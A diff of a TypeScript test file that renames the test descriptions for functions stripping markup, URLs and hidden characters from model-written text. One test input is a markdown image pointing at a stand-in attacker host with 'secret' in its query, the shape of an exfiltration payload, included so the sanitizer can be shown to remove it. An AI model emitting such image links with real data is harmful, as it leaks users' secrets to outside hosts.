@@ -2,7 +2,7 @@ import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { cleanModelText, cutModelText } from "./model-text.ts";
 
-describe("what a model wrote", () => {
+describe("cleanModelText and cutModelText", () => {
   it.each([
     ["a picture", "Bees ![x](https://evil.example/?q=secret) fly", "Bees fly"],
     ["a picture without an end", "Bees ![x](https://evil.example/?q=", "Bees"],
@@ -22,7 +22,7 @@ describe("what a model wrote", () => {
     ["emphasis", "**Bees** and _wasps_ *fly* `fast`", "Bees and wasps fly fast"],
     ["headings and bullets", "# Bees\n- fly\n2. fast", "Bees fly fast"],
     ["characters that hide or turn", "Be\u200bes \u202efly\u202c\u0000\ud800", "Bees fly"],
-  ])("loses %s", (_what, given, plain) => {
+  ])("remove %s", (_what, given, plain) => {
     expect(cleanModelText(given)).toBe(plain);
   });
 
@@ -33,11 +33,11 @@ describe("what a model wrote", () => {
     "Data: what we know. Java: Node.js at example.org",
     "Why C++ & C# (and F#) stay – 10–20 % faster",
     "养蜂 は楽しい 🐝👩‍🌾",
-  ])("keeps %s", (text) => {
+  ])("keep %s", (text) => {
     expect(cleanModelText(text)).toBe(text.replace("__init__", "init"));
   });
 
-  it("holds no address, picture or tag, whatever it was made of", () => {
+  it("leave no URL, picture or tag in any input", () => {
     const piece = fc.constantFrom(
       ..."![](<>)\"'=/:*_`#".split(""),
       "<img ",
@@ -64,13 +64,13 @@ describe("what a model wrote", () => {
     );
   });
 
-  it("is plain in the end however deep its markup is nested", () => {
+  it("return plain text however deep the markup is nested", () => {
     const nested = `${"<b".repeat(900)}${">".repeat(900)} bees`;
     expect(cleanModelText(nested)).not.toContain("<");
     expect(cleanModelText(`${"[".repeat(900)}bees${"](x)".repeat(700)}`)).not.toMatch(/[[\]()]/);
   });
 
-  it("is cut after a word, and never inside a character", () => {
+  it("cut after a word, and never inside a character", () => {
     expect(cutModelText("one two three four", 14)).toBe("one two three…");
     fc.assert(
       fc.property(fc.string({ unit: "binary" }), fc.integer({ min: 2, max: 40 }), (text, most) => {
